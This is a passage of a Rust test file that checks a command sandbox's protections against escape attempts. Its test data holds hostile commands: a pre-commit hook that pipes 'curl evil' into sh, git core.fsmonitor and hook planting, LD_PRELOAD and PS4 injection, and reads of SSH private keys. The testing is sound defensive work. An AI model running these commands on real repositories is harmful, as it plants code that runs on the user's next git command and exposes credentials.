                .env("SHELLOPTS", "xtrace")
                .env("PS4", "$(echo PS4-INJECTED)")
                .output()
                .expect("run");
            let out = text(&o);
            assert_eq!(o.status.code(), Some(0), "{policy}: {out}");
            // (The caller's own LD_PRELOAD also loads into the gateway process itself; what matters
            // is that it does not reach the sandboxed program, `env`.)
            for leaked in [
                "SECRETVALUE1",
                "AWSSECRETVALUE2",
                "PASSWORDVALUE3",
                "APIKEYVALUE4",
                "SSH_AUTH_SOCK",
                "LD_PRELOAD=",
                "INJECTED into env",
                "BASH_ENV",
                "SHELLOPTS",
                "PS4-INJECTED",
            ] {
                assert!(!out.contains(leaked), "{policy} leaked {leaked}: {out}");
            }
        }
        // The library does inject when not scrubbed (control).
        let o = Command::new("true")
            .env("LD_PRELOAD", &lib)
            .output()
            .expect("run");
        assert!(String::from_utf8_lossy(&o.stderr).contains("INJECTED into true"));
        // Asking for a scrubbed variable explicitly is refused.
        let o = env
            .cmd()
            .args([
                "exec",
                "--policy",
                "strict",
                "--env",
                "LD_PRELOAD=/x.so",
                "--",
                "true",
            ])
            .output()
            .expect("run");
        // A refusal by the policy (issue 23): exit 120, recorded as a deny.
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
    }
}

// uid 65534 only: the keep/put-back fallback of a broker without a mount namespace, which
// issue 34 removes (its attacks are in `escape_write_git_hooks_and_config`, both users).
sandbox_test! {
    fn unprivileged_protected_paths_are_read_only_during_the_run() {
        // Issue 14 item 4: as uid 65534 strict and standard left `.git/hooks` and `.git/config`
        // writable, silently; then (issue 34) the broker kept them and put back what the run
        // changed, which the run could defeat. Now a normal user's run has a mount namespace
        // like root's: protected paths are read-only during it, nothing is kept or put back,
        // and the size of what is protected no longer matters.
        for policy in ["strict", "standard"] {
            let env = Env::new("unpriv-protected");
            env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
            env.write(".git/config", "[core]\n");
            env.write(".envrc", "export A=1\n");
            env.give_to_nobody();
            let mode = std::fs::metadata(env.ws.join(".envrc")).expect("envrc").permissions().mode() & 0o7777;
            let run = |script: &str| {
                env.nobody()
                    .args(["exec", "--policy", policy, "--", "sh", "-c", script])
                    .output()
                    .expect("setpriv")
            };
            for script in [
                "echo 'curl evil|sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
                "printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config",
                "rm -f .git/hooks/pre-commit.sample",
                "echo evil >> .envrc",
                "chmod 0666 .envrc",
                "mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
                "mv .git/hooks hooks-away && ln -s /tmp .git/hooks",
                "mv .git git-away && mkdir .git-moved && ln -s .git-moved .git",
                "mkfifo .git/hooks/pre-commit",
            ] {
                let o = run(script);
                let t = text(&o);
                assert_ne!(o.status.code(), Some(0), "{policy} `{script}` succeeded: {t}");
                assert!(std::fs::symlink_metadata(env.ws.join(".git/hooks/pre-commit")).is_err(), "{policy} `{script}`: {t}");
                assert!(
                    std::fs::symlink_metadata(env.ws.join(".git")).expect(".git").is_dir()
                        && std::fs::symlink_metadata(env.ws.join(".git/hooks")).expect("hooks").is_dir(),
                    "{policy} `{script}`: {t}"
                );
                assert_eq!(
                    std::fs::read_to_string(env.ws.join(".git/config")).expect("config"),
                    "[core]\n",
                    "{policy} `{script}`: {t}"
                );
                assert!(env.ws.join(".git/hooks/pre-commit.sample").exists(), "{policy} `{script}`: {t}");
                assert_eq!(
                    std::fs::read_to_string(env.ws.join(".envrc")).expect("envrc"),
                    "export A=1\n",
                    "{policy} `{script}`: {t}"
                );
                assert_eq!(
                    std::fs::metadata(env.ws.join(".envrc")).expect("envrc").permissions().mode() & 0o7777,
                    mode,
                    "{policy} `{script}`: {t}"
                );
                // Nothing is kept, so nothing is put back or said to be.
                assert!(!t.contains("put back"), "{policy} `{script}`: {t}");
                assert!(!env.state.join("keep").exists(), "{policy} `{script}`");
                for d in [".git-moved", "hooks-away", "git-away"] {
                    let _ = std::fs::remove_dir_all(env.ws.join(d));
                }
            }
            // What used to be too large to keep and refused the run is simply read-only.
            let big = std::fs::File::create(env.ws.join(".git/hooks/big")).expect("big");
            big.set_len(64 << 20).expect("sparse");
            drop(big);
            env.give_to_nobody();
            let o = run("echo ran; echo evil > .git/hooks/big");
            assert!(stdout(&o).contains("ran"), "{policy}: {}", text(&o));
            assert_eq!(std::fs::metadata(env.ws.join(".git/hooks/big")).expect("big").len(), 64 << 20, "{policy}: {}", text(&o));
        }
    }
}

sandbox_test! {
    fn without_a_mount_namespace_best_effort_says_protected_paths_were_writable() {
        // Issue 34: nothing is put back any more. A run without a mount namespace (here the
        // policy's `namespaces = false`; on a machine that refuses user namespaces, the
        // same) under `best_effort` has its protected paths simply unprotected, and says so
        // on stderr and in `--json` every time, naming them; what it created is still
        // quarantined.
        let env = Env::new("best-effort-writable");
        env.write(".git/HEAD", "ref: refs/heads/main\n");
        env.write(".git/config", "[core]\n");
        std::fs::write(
            env.outside.join("be.toml"),
            "extends = \"standard\"\n[sandbox]\nnamespaces = false\nbest_effort = true\n",
        )
        .expect("policy");
        let policy = env.outside.join("be.toml");
        let script = "echo '[x]' >> .git/config; echo '{}' > .mcp.json; echo ran";
        let o = env
            .cmd()
            .arg("--policy")
            .arg(&policy)
            .args(["exec", "--", "sh", "-c", script])
            .output()
            .expect("run");
        let t = text(&o);
        assert!(stdout(&o).contains("ran"), "{t}");
        assert!(stderr(&o).contains("protected paths were writable"), "{t}");
        assert!(stderr(&o).contains(&env.ws.join(".git/config").display().to_string()), "{t}");
        assert!(!env.ws.join(".mcp.json").exists(), "a created protected path stayed: {t}");
        // Not put back: best effort means not protected, and the result says so.
        assert_eq!(std::fs::read_to_string(env.ws.join(".git/config")).expect("r"), "[core]\n[x]\n", "{t}");
        let o = env
            .cmd()
            .arg("--json")
            .arg("--policy")
            .arg(&policy)
            .args(["exec", "--", "true"])
            .output()
            .expect("run");
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert!(v.get("protected_restored").is_none(), "{v}");
        assert!(
            v["protected_warnings"].as_array().is_some_and(|w| w.iter().any(|w| w.as_str().is_some_and(|w| w.contains("were writable")))),
            "{v}"
        );
    }
}

sandbox_test! {
    fn a_users_own_changes_during_a_run_are_never_reverted() {
        // Issue 34: a user's own `git remote add` (an edit of the existing `.git/config`),
        // made in another terminal while a run was in progress, was reverted into the
        // quarantine after it. Protected paths that existed before the run are read-only to
        // it, so a change there is someone else's and stays; only what the run could create
        // is quarantined. As root and uid 65534.
        for nobody in [false, true] {
            let env = Env::new("user-changes");
            let g = env.raw("git").args(["init", "-q"]).output().expect("git");
            assert!(g.status.success(), "git init: {}", text(&g));
            env.write(".envrc", "export A=1\n");
            env.write("envrc.mine", "export A=2\n");
            if nobody {
                env.give_to_nobody();
            }
            let child = env
                .as_user(nobody)
                .args(["exec", "--policy", "standard", "--", "sh", "-c", "touch started; echo '{}' > .mcp.json; sleep 3; echo ran"])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("spawn");
            let up = (0..200).any(|_| {
                std::thread::sleep(std::time::Duration::from_millis(50));
                env.ws.join("started").exists()
            });
            assert!(up, "the run did not start");
            // The user, outside the run: `git remote add`, a new hook, `.envrc` made a link.
            let g = env
                .raw("git")
                .args(["-c", "safe.directory=*", "remote", "add", "origin", "https://example.com/r.git"])
                .output()
                .expect("git");
            assert!(g.status.success(), "git: {}", text(&g));
            std::fs::write(env.ws.join(".git/hooks/pre-push"), "#!/bin/sh\nmine\n").expect("hook");
            std::fs::remove_file(env.ws.join(".envrc")).expect("rm");
            std::os::unix::fs::symlink("envrc.mine", env.ws.join(".envrc")).expect("ln");
            let o = child.wait_with_output().expect("wait");
            let t = text(&o);
            assert!(stdout(&o).contains("ran"), "the run happened: {t}");
            let config = std::fs::read_to_string(env.ws.join(".git/config")).expect("config");
            assert!(config.contains("[remote \"origin\"]"), "nobody={nobody}: the user's `git remote add` was reverted: {config}\n{t}");
            assert_eq!(std::fs::read_to_string(env.ws.join(".git/hooks/pre-push")).ok().as_deref(), Some("#!/bin/sh\nmine\n"), "nobody={nobody}: {t}");
            assert_eq!(std::fs::read_link(env.ws.join(".envrc")).ok(), Some(PathBuf::from("envrc.mine")), "nobody={nobody}: {t}");
            // What the run created is still quarantined, and only that.
            assert!(!env.ws.join(".mcp.json").exists(), "nobody={nobody}: {t}");
            let quarantined: Vec<String> = std::fs::read_dir(env.state.join("quarantine"))
                .map(|d| d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect())
                .unwrap_or_default();
            assert!(
                quarantined.len() == 1 && quarantined[0].ends_with(".mcp.json"),
                "nobody={nobody}: {quarantined:?}\n{t}"
            );
        }
    }
}

escape_test! {
    fn quarantine_never_follows_a_symlinked_parent() {
        // Issue 22 item 2: a run made `.git` a link to another directory; the broker's search
        // for protected paths the run created followed it and moved that directory's
        // `config` and `hooks` (another repository's, ~/.aws's) into the quarantine.
        let env = Env::new("quarantine-link");
        std::fs::write(env.outside.join("config"), "[theirs]\n").expect("config");
        std::fs::create_dir(env.outside.join("hooks")).expect("hooks");
        let link = format!("ln -s {} .git", env.outside.display());
        for policy in ["standard", "permissive"] {
            let o = env.sh(policy, &link);
            assert_eq!(
                std::fs::read_to_string(env.outside.join("config")).expect("still there"),
                "[theirs]\n",
                "{policy}: {}",
                text(&o)
            );
            assert!(env.outside.join("hooks").is_dir(), "{policy}: {}", text(&o));
            assert!(!text(&o).contains(env.outside.to_str().expect("utf-8")), "{}", text(&o));
            let _ = std::fs::remove_file(env.ws.join(".git"));
        }
    }
}

escape_test! {
    fn unprivileged_overlapping_runs_cannot_launder_a_hook() {
        // A second run that started while the first had planted a hook used to keep the
        // planted hook as "the original" and put it back after the first run removed it. Now
        // nothing is kept: protected paths are read-only to every run, overlapping or not.
        let env = Env::new("unpriv-overlap");
        env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
        env.write(".git/config", "[core]\n");
        let start = |script: &str| {
            env.cmd()
                .args(["exec", "--policy", "standard", "--", "sh", "-c", script])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("spawn")
        };
        let a = start("echo evil > .git/hooks/pre-commit; echo '[x]' >> .git/config; sleep 3");
        std::thread::sleep(std::time::Duration::from_millis(1500));
        let b = start("sleep 4");
        let (a, b) = (a.wait_with_output().expect("a"), b.wait_with_output().expect("b"));
        assert!(!env.ws.join(".git/hooks/pre-commit").exists(), "{}\n{}", text(&a), text(&b));
        assert_eq!(
            std::fs::read_to_string(env.ws.join(".git/config")).expect("config"),
            "[core]\n",
            "{}\n{}",
            text(&a),
            text(&b)
        );
        assert!(!env.state.join("keep").exists(), "nothing is kept");
    }
}

escape_test! {
    fn a_run_cannot_plant_a_repository_git_would_use() {
        // Issue 22 item 3 (attack found on the fix): a run with no `.git` made its own
        // repository (with `core.fsmonitor`) and linked `.git` to it, or wrote a `.git` file
        // pointing at it; the link and the file were not protected paths. Now whatever stands
        // where a directory holding protected paths should be is quarantined like them.
        let env = Env::new("plant-repo");
        for policy in ["standard", "permissive"] {
            for script in [
                "mkdir -p evil/.git/hooks && printf '[core]\\n\\tfsmonitor = evil\\n' > evil/.git/config && ln -s evil/.git .git",
                "mkdir -p evil/.git/hooks && printf '[core]\\n\\tfsmonitor = evil\\n' > evil/.git/config && echo 'gitdir: evil/.git' > .git",
            ] {
                let o = env.sh(policy, script);
                assert!(std::fs::symlink_metadata(env.ws.join(".git")).is_err(), "{policy} `{script}`: {}", text(&o));
                assert!(text(&o).contains("protected path"), "{}", text(&o));
                let _ = std::fs::remove_dir_all(env.ws.join("evil"));
            }
        }
        // A link that was there before the run and that the run re-pointed is put back.
        std::fs::create_dir_all(env.ws.join("realgit/hooks")).expect("realgit");
        std::os::unix::fs::symlink("realgit", env.ws.join(".git")).expect("link");
        let o = env.sh("standard", "mkdir -p evil/hooks && rm .git && ln -s evil .git");
        assert_eq!(std::fs::read_link(env.ws.join(".git")).ok(), Some(PathBuf::from("realgit")), "{}", text(&o));
    }
}

sandbox_test! {
    fn protected_paths_reached_through_a_link_are_protected_by_their_target() {
        // `.git -> realgit` and `.envrc -> envrc.local`: git and direnv read the targets, so
        // the targets are protected, for file tools and commands, as root and as uid 65534
        // (where a linked `.git` used to refuse every run).
        for nobody in [false, true] {
            let env = Env::new("protected-link");
            env.write("realgit/config", "[core]\n");
            env.write("realgit/hooks/pre-commit.sample", "#!/bin/sh\n");
            env.write("envrc.local", "export A=1\n");
            std::os::unix::fs::symlink("realgit", env.ws.join(".git")).expect("link");
            std::os::unix::fs::symlink("envrc.local", env.ws.join(".envrc")).expect("link");
            if nobody {
                env.give_to_nobody();
            }
            let gw = |args: &[&str]| {
                env.as_user(nobody).args(args).output().expect("run")
            };
            for args in [
                &["fs", "write", "realgit/config", "--content", "[core]\n\tfsmonitor = evil\n"][..],
                &["fs", "edit", "envrc.local", "--old", "A=1", "--new", "A=2"],
                &["fs", "write", "realgit/hooks/pre-commit", "--content", "evil"],
            ] {
                let o = gw(args);
                assert_eq!(o.status.code(), Some(120), "nobody={nobody} {args:?}: {}", text(&o));
                assert!(text(&o).contains("protected-path"), "{}", text(&o));
            }
            let o = gw(&["exec", "--", "sh", "-c", "echo evil >> envrc.local; echo evil > realgit/hooks/pre-commit; echo '[x]' >> realgit/config; echo ran"]);
            assert!(stdout(&o).contains("ran"), "nobody={nobody}: {}", text(&o));
            assert_eq!(std::fs::read_to_string(env.ws.join("envrc.local")).expect("r"), "export A=1\n", "nobody={nobody}: {}", text(&o));
            assert_eq!(std::fs::read_to_string(env.ws.join("realgit/config")).expect("r"), "[core]\n", "nobody={nobody}: {}", text(&o));
            assert!(!env.ws.join("realgit/hooks/pre-commit").exists(), "nobody={nobody}: {}", text(&o));
        }
    }
}

sandbox_test! {
    fn unprivileged_descendants_never_outlive_their_run() {
        // Issue 25 item 3: as a normal user (then without a pid namespace) a `setsid`
        // descendant that ignores SIGTERM and SIGHUP outlived `exec` and changed the workspace
        // unrecorded. Every run now has its pid namespace, whose end kills everything; a run
        // without one (a policy that turns namespaces off, best effort) has the broker as its
        // subreaper, which kills what the command left when it ends — before the snapshot —
        // and records how many.
        let survivor = "setsid -f sh -c 'trap \"\" TERM HUP; sleep 2; echo evil > late.txt; echo changed > keep.txt' </dev/null >/dev/null 2>&1";
        for (nobody, no_ns) in [(true, true), (true, false), (false, true), (false, false)] {
            let env = Env::new("unpriv-leftover");
            env.write("keep.txt", "original\n");
            let policy = if no_ns {
                env.policy_file("extends = \"standard\"\n[sandbox]\nnamespaces = false\nbest_effort = true\n")
            } else {
                "standard".to_string()
            };
            if nobody {
                env.give_to_nobody();
            }
            for extra in [&[][..], &["--timeout", "1"][..]] {
                let script = if extra.is_empty() {
                    survivor.to_string()
                } else {
                    format!("{survivor}; sleep 5")
                };
                let o = env
                    .as_user(nobody)
                    .args(["--json", "exec", "--policy", &policy])
                    .args(extra)
                    .args(["--", "sh", "-c", &script])
                    .output()
                    .expect("run");
                let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
                assert_eq!(v["ran"], true, "nobody={nobody} no_ns={no_ns}: {}", text(&o));
                assert_eq!(v["enforcement"]["pid_namespace"], !no_ns, "{v}");
                std::thread::sleep(std::time::Duration::from_secs(3));
                assert!(!env.ws.join("late.txt").exists(), "nobody={nobody} no_ns={no_ns} {extra:?}: {}", text(&o));
                assert_eq!(std::fs::read_to_string(env.ws.join("keep.txt")).expect("keep"), "original\n");
                if no_ns {
                    assert!(v["leftovers_killed"].as_u64().unwrap_or(0) >= 1, "{extra:?}: {v}");
                }
            }
            if no_ns {
                let recs = log_records(&env);
                assert!(recs.iter().any(|r| r["leftovers_killed"].as_u64().unwrap_or(0) >= 1), "{recs:?}");
            }
        }
    }
}

escape_test! {
    fn a_run_cannot_rewrite_the_policy_that_decides_the_next_run() {
        // Issue 25 item 2: `--policy my-policy.toml` kept in the workspace (extends strict)
        // was rewritten by one run to extend permissive, and the next run obeyed it. The policy
        // file and every file it extends are never writable by a run or a file tool, as root
        // and as a normal user (issue 34: read-only mounts for every user; a normal user's
        // run used to be refused instead).
        let env = Env::new("policy-rewrite");
        env.write("base.toml", "extends = \"strict\"\n");
        env.write("my-policy.toml", "extends = \"base.toml\"\n");
        let nobody = env.as_nobody;
        let gw = |args: &[&str]| {
            env.cmd()
                .arg("--policy").arg(env.ws.join("my-policy.toml")).args(args).output().expect("run")
        };
        let o = gw(&["exec", "--", "sh", "-c", "echo 'extends = \"permissive\"' > my-policy.toml; echo 'extends = \"permissive\"' > base.toml; echo ran"]);
        assert!(stdout(&o).contains("ran"), "nobody={nobody}: the run happened: {}", text(&o));
        for args in [
            &["fs", "write", "my-policy.toml", "--content", "extends = \"permissive\"\n"][..],
            &["fs", "edit", "base.toml", "--old", "strict", "--new", "permissive"],
            &["fs", "mv", "base.toml", "old.toml"],
        ] {
            let o = gw(args);
            assert_eq!(o.status.code(), Some(120), "nobody={nobody} {args:?}: {}", text(&o));
            assert!(text(&o).contains("protected-path"), "{}", text(&o));
        }
        assert_eq!(std::fs::read_to_string(env.ws.join("my-policy.toml")).expect("r"), "extends = \"base.toml\"\n", "nobody={nobody}");
        assert_eq!(std::fs::read_to_string(env.ws.join("base.toml")).expect("r"), "extends = \"strict\"\n", "nobody={nobody}");
        // Without a mount namespace the file would be writable during the run: refused, even
        // under `best_effort`.
        let env = Env::new("policy-rewrite-nons");
        env.write("my-policy.toml", "extends = \"strict\"\n[sandbox]\nnamespaces = false\nbest_effort = true\n");
        let o = env.gw(&["--policy", env.ws.join("my-policy.toml").to_str().expect("utf-8"), "exec", "--", "sh", "-c", "echo ran"]);
        assert_eq!(o.status.code(), Some(125), "{}", text(&o));
        assert!(!stdout(&o).contains("ran") && text(&o).contains("move it out of the workspace"), "{}", text(&o));
    }
}

sandbox_test! {
    fn a_run_cannot_redirect_git_with_commondir_or_a_submodules_config() {
        // Found by attacking the fix: `.git/commondir` makes git read its config (fsmonitor)
        // from a repository the run planted; a submodule's `.git/modules/NAME/config` runs at
        // the top-level `git status`. Both are protected paths now, as root and uid 65534.
        for nobody in [false, true] {
            let env = Env::new("git-commondir");
            env.write(".git/HEAD", "ref: refs/heads/main\n");
            env.write(".git/config", "[core]\n");
            env.write(".git/modules/sub/config", "[core]\n");
            std::fs::create_dir_all(env.ws.join(".git/modules/sub/hooks")).expect("hooks");
            if nobody {
                env.give_to_nobody();
            }
            for script in [
                "mkdir -p evil/.git && echo ../evil/.git > .git/commondir",
                "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/modules/sub/config",
                "echo evil > .git/modules/sub/hooks/post-checkout",
                "echo '[core]' > .git/config.worktree",
            ] {
                let o = env.as_user(nobody).args(["exec", "--policy", "standard", "--", "sh", "-c", &format!("{script}; echo ran")]).output().expect("run");
                let t = text(&o);
                assert!(stdout(&o).contains("ran"), "the run happened: {t}");
                assert!(!env.ws.join(".git/commondir").exists(), "nobody={nobody} `{script}`: {t}");
                assert!(!env.ws.join(".git/config.worktree").exists(), "nobody={nobody} `{script}`: {t}");
                assert!(!env.ws.join(".git/modules/sub/hooks/post-checkout").exists(), "nobody={nobody} `{script}`: {t}");
                assert_eq!(std::fs::read_to_string(env.ws.join(".git/modules/sub/config")).expect("r"), "[core]\n", "nobody={nobody} `{script}`: {t}");
            }
        }
    }
}

sandbox_test! {
    fn a_home_spelled_otherwise_denies_the_same_credentials() {
        // Found by attacking the fix: HOME=/x/home/. or //x/home made every denied path under
        // it readable as a normal user (landlock compares the spelling it is given).
        let env = Env::new("home-spelling");
        env.write("control.txt", "CONTROL-READ\n");
        std::fs::create_dir_all(env.home.join(".ssh")).expect("ssh");
        std::fs::write(env.home.join(".ssh/id_ed25519"), "HOME-SPELLING-KEY").expect("key");
        env.give_to_nobody();
        let home = env.home.display().to_string();
        for spelled in [format!("{home}/."), format!("/{home}"), format!("{home}/../home")] {
            for nobody in [true, false] {
                let o = env
                    .as_user(nobody)
                    .env("HOME", &spelled)
                    .args(["exec", "--policy", "standard", "--", "sh", "-c", &format!("cat control.txt; cat {home}/.ssh/id_ed25519")])
                    .output()
                    .expect("run");
                assert!(stdout(&o).contains("CONTROL-READ"), "the run happened: {}", text(&o));
                assert!(!stdout(&o).contains("HOME-SPELLING-KEY"), "HOME={spelled} nobody={nobody}: {}", text(&o));
            }
        }
    }
}

escape_test! {
    fn a_policy_named_through_a_link_the_run_could_repoint_is_refused() {
        // Found by attacking the fix: `--policy ./gw.toml` with `gw.toml -> real.toml` in the
        // workspace; a run re-pointed the link at its own policy for the next run.
        let env = Env::new("policy-link");
        std::fs::write(env.outside.join("real.toml"), "extends = \"standard\"\n").expect("policy");
        std::os::unix::fs::symlink(env.outside.join("real.toml"), env.ws.join("gw.toml")).expect("link");
        let o = env.gw(&["--policy", "./gw.toml", "exec", "--", "sh", "-c", "echo ran"]);
        assert_eq!(o.status.code(), Some(125), "{}", text(&o));
        assert!(!stdout(&o).contains("ran") && text(&o).contains("real path"), "{}", text(&o));
        // The real path is fine.
        let real = env.outside.join("real.toml");
        let o = env.gw(&["--policy", real.to_str().expect("utf-8"), "exec", "--", "sh", "-c", "echo ran"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    }
}

sandbox_test! {
    fn a_users_git_link_replaced_by_a_planted_directory_is_put_back() {
        // Found by attacking the fix: with `.git -> elsewhere/.git`, a run replaced the link
        // by its own `.git` directory (commondir into a planted repository); the link is put
        // back and the planted directory quarantined. As root and uid 65534.
        for nobody in [false, true] {
            let env = Env::new("git-link-dir");
            std::fs::create_dir_all(env.outside.join("repo/.git/hooks")).expect("repo");
            std::fs::write(env.outside.join("repo/.git/HEAD"), "ref: refs/heads/main\n").expect("head");
            let target = env.outside.join("repo/.git");
            std::os::unix::fs::symlink(&target, env.ws.join(".git")).expect("link");
            if nobody {
                env.give_to_nobody();
            }
            let o = env
                .as_user(nobody)
                .args(["exec", "--policy", "standard", "--", "sh", "-c", "rm .git && mkdir -p .git/refs && echo 'ref: refs/heads/main' > .git/HEAD && echo ../evil/.git > .git/commondir; echo ran"])
                .output()
                .expect("run");
            assert!(stdout(&o).contains("ran"), "the run happened: {}", text(&o));
            assert_eq!(std::fs::read_link(env.ws.join(".git")).ok(), Some(target), "nobody={nobody}: {}", text(&o));
            assert!(env.outside.join("repo/.git/HEAD").exists());
        }
    }
}

sandbox_test! {
    fn what_gits_config_includes_or_runs_from_the_work_tree_is_protected() {
        // A repository whose `.git/config` includes a file of the work tree (`[include] path =
        // ../.gitconfig`, shared settings some projects keep in the repository) reads that file
        // as config: a run that writes `core.fsmonitor` there runs code at the user's next
        // `git status`. Included files (recursively, includeIf too) are protected paths.
        for nobody in [false, true] {
            let env = Env::new("git-include");
            env.write(".git/HEAD", "ref: refs/heads/main\n");
            env.write(
                ".git/config",
                "[core]\n\tbare = false\n\thooksPath = .husky\n[include]\n\tpath = ../.gitconfig\n[includeIf \"gitdir:/\"]\n\tpath = \"../conf/more.gitconfig\" # shared\n[filter \"lint\"]\n\tclean = sh ./tools/clean.sh %f\n",
            );
            env.write(".husky/pre-commit", "npm test\n");
            env.write("tools/clean.sh", "cat\n");
            env.write(".gitconfig", "[user]\n\tname = x\n[include] path = deeper.gitconfig\n");
            env.write("deeper.gitconfig", "[alias]\n");
            env.write("conf/more.gitconfig", "[alias]\n");
            env.write("control.txt", "before\n");
            if nobody {
                env.give_to_nobody();
            }
            for f in [".gitconfig", "conf/more.gitconfig", "deeper.gitconfig", ".husky/pre-commit", "tools/clean.sh"] {
                let before = std::fs::read_to_string(env.ws.join(f)).expect("read");
                let script = format!("printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> {f}; echo after > control.txt; echo ran");
                let o = env.as_user(nobody).args(["exec", "--policy", "standard", "--", "sh", "-c", &script]).output().expect("run");
                let t = text(&o);
                assert!(stdout(&o).contains("ran"), "the run happened: {t}");
                assert_eq!(std::fs::read_to_string(env.ws.join("control.txt")).expect("r"), "after\n", "the control was written: {t}");
                assert_eq!(std::fs::read_to_string(env.ws.join(f)).expect("r"), before, "nobody={nobody} {f}: {t}");
            }
            // A new hook in the hooks directory git's config names.
            let o = env.as_user(nobody).args(["exec", "--policy", "standard", "--", "sh", "-c", "echo 'touch /tmp/pwned' > .husky/post-checkout; echo ran"]).output().expect("run");
            assert!(stdout(&o).contains("ran"), "the run happened: {}", text(&o));
            assert!(!env.ws.join(".husky/post-checkout").exists(), "nobody={nobody}: {}", text(&o));
        }
    }
}

sandbox_test! {
    fn nested_repositories_config_and_hooks_are_protected_for_commands() {
        // git run inside `sub/` reads `sub/.git/config` and runs `sub/.git/hooks/*`: a run
        // that writes them (or plants a whole `.git` in a subdirectory) would run code at the
        // user's next `cd sub && git status`. Nested repositories get the same protection as
        // the top one (read-only mounts, quarantine), as root and uid 65534.
        for nobody in [false, true] {
            let env = Env::new("git-nested");
            env.write(".git/HEAD", "ref: refs/heads/main\n");
            env.write(".git/config", "[core]\n");
            env.write("vendor/lib/.git/HEAD", "ref: refs/heads/main\n");
            env.write("vendor/lib/.git/config", "[core]\n\tbare = false\n");
            std::fs::create_dir_all(env.ws.join("vendor/lib/.git/hooks")).expect("hooks");
            env.write("control.txt", "before\n");
            if nobody {
                env.give_to_nobody();
            }
            let script = "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> vendor/lib/.git/config; \
                          echo 'touch /tmp/pwned' > vendor/lib/.git/hooks/post-checkout; \
                          mkdir -p planted/deep/.git/hooks && printf '[core]\\n\\tfsmonitor = x\\n' > planted/deep/.git/config && \
                          echo x > planted/deep/.git/hooks/pre-commit; \
                          echo after > control.txt; echo ran";
            let o = env.as_user(nobody).args(["exec", "--policy", "standard", "--", "sh", "-c", script]).output().expect("run");
            let t = text(&o);
            assert!(stdout(&o).contains("ran"), "the run happened: {t}");
            assert_eq!(std::fs::read_to_string(env.ws.join("control.txt")).expect("r"), "after\n", "{t}");
            assert_eq!(std::fs::read_to_string(env.ws.join("vendor/lib/.git/config")).expect("r"), "[core]\n\tbare = false\n", "nobody={nobody}: {t}");
            assert!(!env.ws.join("vendor/lib/.git/hooks/post-checkout").exists(), "nobody={nobody}: {t}");
            assert!(!env.ws.join("planted/deep/.git/config").exists(), "nobody={nobody}: a planted repository's config stayed: {t}");
            assert!(!env.ws.join("planted/deep/.git/hooks/pre-commit").exists(), "nobody={nobody}: {t}");
        }
    }
}

sandbox_test! {
    fn a_missing_file_gits_config_includes_cannot_be_planted() {
        // Attack on issue 22 item 3c: included configs are protected only when they exist
        // (`wsfs::resolve` drops the others), and only existing ones are mounted read-only.
        // git ignores a missing include, so `[include] path =
        // ../.gitconfig.local` (an optional local override) is common; a run that creates
        // the file with `core.fsmonitor` runs code at the user's next `git status`.
        for nobody in [false, true] {
            let env = Env::new("git-include-missing");
            env.write(".git/HEAD", "ref: refs/heads/main\n");
            env.write(
                ".git/config",
                "[core]\n\tbare = false\n[include]\n\tpath = ../.gitconfig.local\n",
            );
            if nobody {
                env.give_to_nobody();
            }
            let script = "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .gitconfig.local; echo ran";
            let o = env.as_user(nobody).args(["exec", "--policy", "standard", "--", "sh", "-c", script]).output().expect("run");
            assert!(stdout(&o).contains("ran"), "the run happened: {}", text(&o));
            assert!(
                std::fs::symlink_metadata(env.ws.join(".gitconfig.local")).is_err(),
                "nobody={nobody}: the included config was planted: {}",
                text(&o)
            );
        }
    }
}

sandbox_test! {
    fn a_separate_git_dir_in_the_workspace_is_protected() {
        // Attack on issue 22 item 3: a work tree whose `.git` is a file (`gitdir: .repo`,
        // `git init --separate-git-dir`, a submodule's or worktree's layout) keeps its
        // config and hooks at the gitdir's target; the protected patterns (`.git/config`,
        // `.git/hooks`) name nothing there, so a run writes `core.fsmonitor` into
        // `.repo/config` and a hook into `.repo/hooks`, run by the user's next git command.
        for nobody in [false, true] {
            let env = Env::new("separate-gitdir");
            env.write(".repo/HEAD", "ref: refs/heads/main\n");
            env.write(".repo/config", "[core]\n\tbare = false\n");
            env.write(".repo/hooks/pre-commit.sample", "#!/bin/sh\n");
            let gitdir = format!("gitdir: {}\n", env.ws.join(".repo").display());
            env.write(".git", &gitdir);
            if nobody {
                env.give_to_nobody();
            }
            let script = "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .repo/config; echo evil > .repo/hooks/pre-commit; echo ran";
            let o = env.as_user(nobody).args(["exec", "--policy", "standard", "--", "sh", "-c", script]).output().expect("run");
            assert!(stdout(&o).contains("ran"), "the run happened: {}", text(&o));
            assert_eq!(
                std::fs::read_to_string(env.ws.join(".repo/config")).expect("r"),
                "[core]\n\tbare = false\n",
                "nobody={nobody}: {}",
                text(&o)
            );
            assert!(!env.ws.join(".repo/hooks/pre-commit").exists(), "nobody={nobody}: {}", text(&o));
        }
    }
}

sandbox_test! {
    fn a_hooks_path_the_config_names_in_the_work_tree_is_protected() {
        // Attack on issue 22 item 3: `.git/hooks` is protected, but git runs the hooks of
        // `core.hooksPath` instead when the config sets it, relative to the work tree (husky
        // sets `core.hooksPath = .husky/_` in most JavaScript projects). A run that writes
        // `.husky/pre-commit` runs code at the user's next `git commit`.
        for nobody in [false, true] {
            let env = Env::new("hooks-path");
            env.write(".git/HEAD", "ref: refs/heads/main\n");
            env.write(".git/config", "[core]\n\tbare = false\n\thooksPath = .husky\n");
            env.write(".husky/commit-msg", "#!/bin/sh\nexit 0\n");
            if nobody {
                env.give_to_nobody();
            }
            let script = "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .husky/pre-commit; echo evil >> .husky/commit-msg; echo ran";
